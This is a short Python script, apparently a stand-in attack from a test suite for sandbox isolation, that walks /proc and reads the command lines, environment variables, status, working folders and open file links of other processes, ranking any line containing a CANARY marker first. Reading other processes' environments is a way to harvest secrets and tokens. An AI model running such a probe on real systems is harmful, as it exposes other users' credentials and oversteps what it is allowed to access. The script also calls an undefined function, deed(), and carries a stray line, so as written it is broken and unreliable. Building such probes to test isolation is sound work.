# Reads the environment, command line, working folder and open files of its parents, of process 1 and of
# all others that it can see.
# %% from attacks/parts/stand_ins.py
# %% relu
import os


def attack():
    found = []
    for number in sorted(filter(str.isdigit, os.listdir("/proc")), key=int)[:200]:
        if int(number) == os.getpid():
            continue
        for name in ("cmdline", "environ", "comm", "status"):
            try:
                text = open(f"/proc/{number}/{name}").read(4000).replace("\0", " ")
            except OSError as error:
                text = type(error).__name__
            found.append(f"{number} {name} {'CANARY' if 'CANARY' in text else ''} {text[:60]!r}")
        for name in ("cwd", "exe", "root", "fd/0", "fd/3", "fd/5"):
            try:
                found.append(f"{number} {name} {os.readlink(f'/proc/{number}/{name}')}")
            except OSError:
                pass
        deed()
    return "\n".join(sorted(found, key=lambda line: "CANARY" not in line))


print(attack()[:2000])
